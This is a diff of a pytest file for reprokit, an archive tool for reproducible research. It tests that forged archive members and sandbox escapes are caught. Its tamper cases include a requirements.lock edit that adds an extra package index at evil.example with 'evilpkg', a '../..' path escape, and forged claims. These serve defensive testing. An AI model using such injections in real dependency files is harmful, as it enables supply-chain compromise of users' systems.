@@ -9,12 +9,14 @@ import io
 import json
 import shutil
 import subprocess
+import sys
 import tarfile
 import zipfile
 from pathlib import Path
 
 import pytest
 
+from reprokit._model.version import __version__
 from reprokit._verbs.archive import Limits, UnsafeArchive, safe_extract
 from tests.conftest import cli
 from tests.e2e.test_archive import make_archive, recorded  # noqa: F401 - a fixture
@@ -115,6 +117,35 @@ def _add_citation(top: Path) -> None:
     (top / "CITATION.cff").write_text("cff-version: 1.2.0\ntitle: somebody else's\n")
 
 
+def _replace(rel: str, old: str, new: str, count: int = 1):
+    def change(top: Path) -> None:
+        p = top / rel
+        p.chmod(0o644)
+        text = p.read_text()
+        assert old in text, f"{old!r} not in {rel}"
+        p.write_text(text.replace(old, new, count))
+
+    return change
+
+
+def _claims_value(top: Path) -> None:
+    """The claims table says another value (its settings line left as it was)."""
+    p = top / "REPRODUCE.md"
+    p.chmod(0o644)
+    lines = p.read_text().splitlines(keepends=True)
+    row = next(i for i, line in enumerate(lines) if line.startswith("| Table 2, row 1 |"))
+    cells = lines[row].split(" | ")
+    cells[-1] = "0.999 |\n"
+    lines[row] = " | ".join(cells)
+    p.write_text("".join(lines))
+
+
+def _claims_both(top: Path) -> None:
+    """A claim reworded in the table and on the settings line alike: free text by the author,
+    which no derivation can pin (the root digest does)."""
+    _replace("REPRODUCE.md", "Table 2, row 1", "Table 2, row 1 (state of the art)", 2)(top)
+
+
 EDITS = {
     "requirements.lock: extra index and package": _append(
         "requirements.lock", "--extra-index-url https://evil.example/simple\nevilpkg==1.0\n"
@@ -123,7 +154,25 @@ EDITS = {
     "RO-Crate hasPart ../..": _crate_escape,
     "CITATION.cff replaced": _add_citation,
     "a member added": lambda top: (top / "NOTICE.md").write_text("Endorsed by the reviewers.\n"),
+    "REPRODUCE.md prose": _replace(
+        "REPRODUCE.md", "Expected results:", "Expected results (checked by the reviewers):"
+    ),
+    "REPRODUCE.md runs table": _replace(
+        "REPRODUCE.md", "| completed |", "| completed, 3x faster |"
+    ),
+    "REPRODUCE.md claims value": _claims_value,
+    "REPRODUCE.md settings line (tolerance)": _replace(
+        "REPRODUCE.md", '"rtol": 0.0', '"rtol": 0.5'
+    ),
+    "REPRODUCE.md settings line removed": lambda top: _strip_settings(top),
+    "REPRODUCE.md appended to": _append("REPRODUCE.md", "\nAll claims were checked.\n"),
 }
+
+
+def _strip_settings(top: Path) -> None:
+    p = top / "REPRODUCE.md"
+    p.chmod(0o644)
+    p.write_text(p.read_text().rstrip("\n").rsplit("\n", 1)[0] + "\n")
 
 
 @pytest.mark.parametrize("name", list(EDITS))
@@ -132,8 +181,11 @@ def test_an_edit_of_a_generated_member_with_checksums_recomputed_is_tampered(
     tmp_path,
     name,
 ):
-    repo, _ = recorded
-    good = make_archive(repo, tmp_path / "paper.tar.gz")
+    repo, m = recorded
+    claims = tmp_path / "claims.yaml"
+    claims.write_text(f"- claim: Table 2, row 1\n  run: {m.id}\n  result: w\n")
+    good = make_archive(repo, tmp_path / "paper.tar.gz", "--claims", str(claims))
+    assert cli(tmp_path, "verify", str(good)).returncode == 0
     bad = tmp_path / "forged.tar.gz"
     _repack(good, bad, EDITS[name])
     res = cli(tmp_path, "verify", str(bad))
@@ -146,18 +198,27 @@ def test_the_root_digest_is_printed_by_archive_and_verify_and_pins_every_byte(
     recorded,  # noqa: F811
     tmp_path,
 ):
-    repo, _ = recorded
+    repo, m = recorded
     out = tmp_path / "paper.tar.gz"
     made = cli(repo, "archive", "latest", "-o", str(out), "--name", "paper")
     digest = hashlib.sha256(out.read_bytes()).hexdigest()
     assert f"sha256 {digest}" in made.stdout
     checked = cli(tmp_path, "verify", str(out))
     assert checked.returncode == 0 and f"sha256 {digest}" in checked.stdout
-    # an edit no derivation can catch (REPRODUCE.md's prose) still changes the root digest
+    # an edit no derivation can catch (a claim's wording, which the author wrote, changed in
+    # the table and in the settings alike) is intact but changes the root digest
+    claims = tmp_path / "claims.yaml"
+    claims.write_text(f"- claim: Table 2, row 1\n  run: {m.id}\n  result: w\n")
+    out = tmp_path / "claimed.tar.gz"
+    made = cli(
+        repo, "archive", "latest", "-o", str(out), "--name", "paper", "--claims", str(claims)
+    )
+    digest = hashlib.sha256(out.read_bytes()).hexdigest()
     forged = tmp_path / "forged.tar.gz"
-    _repack(out, forged, _append("REPRODUCE.md", "\nAll claims were checked by a reviewer.\n"))
+    _repack(out, forged, _claims_both)
     again = cli(tmp_path, "verify", str(forged))
-    assert f"sha256 {digest}" not in again.stdout
+    assert again.returncode == 0, again.stderr
+    assert f"sha256 {digest}" in made.stdout and f"sha256 {digest}" not in again.stdout
 
 
 def _keygen(path: Path, comment: str) -> Path:
@@ -264,9 +325,63 @@ def test_zz_archive_trust_figure(figure):
     bombs = {k: v for k, v in DETECTED.items() if k.startswith("bomb")}
     figure(
         "archive edits outside the sealed runs detected / tried (checksums recomputed)",
-        f"{sum(edits.values())} / {len(edits)} (REPRODUCE.md prose: root digest only)",
+        f"{sum(edits.values())} / {len(edits)} (a claim reworded in its table and settings "
+        "alike: root digest only)",
     )
     figure(
         "decompression bombs refused / tried (2 MB -> 256 MiB)",
         f"{sum(bombs.values())} / {len(bombs)}",
     )
+
+
+INSTALL_STEP = """
+import socket, sys
+try:
+    open(sys.argv[1], "w").write("escaped")
+    outside = "written"
+except OSError:
+    outside = "refused"
+open(sys.argv[2], "w").write("built")
+print(outside, len(socket.if_nameindex()))
+"""
+
+
+def test_the_virtualenv_of_a_sandboxed_replay_is_built_in_the_sandbox_with_the_network(tmp_path):
+    """pip runs a package's build code: it runs inside the sandbox, the host read-only,
+    writing only in the replay's folder, with the host's network (for the index)."""
+    import socket
+
+    from reprokit._reexec.sandbox import available
+    from reprokit._verbs.archive import install_step
+
+    if available()[0] is None:
+        pytest.skip(f"no sandbox here: {available()[1]}")
+    scratch = tmp_path / "scratch"
+    scratch.mkdir()
+    outside, inside = tmp_path / "outside.txt", scratch / "venv-file"
+    cmd = [sys.executable, "-c", INSTALL_STEP, str(outside), str(inside)]
+    proc = install_step(cmd, str(scratch), sandboxed=True)
+    assert proc.returncode == 0, proc.stdout
+    assert proc.stdout.split() == ["refused", str(len(socket.if_nameindex()))]
+    assert not outside.exists() and inside.read_text() == "built"
+    # trusted (no sandbox): the step runs with the user's rights
+    proc = install_step(cmd, str(scratch), sandboxed=False)
+    assert proc.stdout.split()[0] == "written" and outside.read_text() == "escaped"
+
+
+def test_a_reproduce_md_of_another_reprokit_version_gets_a_note_not_a_false_alarm(
+    recorded,  # noqa: F811
+    tmp_path,
+):
+    repo, _ = recorded
+    good = make_archive(repo, tmp_path / "paper.tar.gz")
+    older = tmp_path / "older.tar.gz"
+    # as an older release would have written it (another template: not derived again here)
+    _repack(
+        good, older, _replace("REPRODUCE.md", f'"version": "{__version__}"', '"version": "0.0.9"')
+    )
+    res = cli(tmp_path, "verify", str(older))
+    assert res.returncode == 0, res.stderr
+    assert "note: REPRODUCE.md was written by reprokit 0.0.9" in res.stderr
+    data = json.loads(cli(tmp_path, "verify", str(older), "--json").stdout)
+    assert data["notes"] and data["intact"] is True
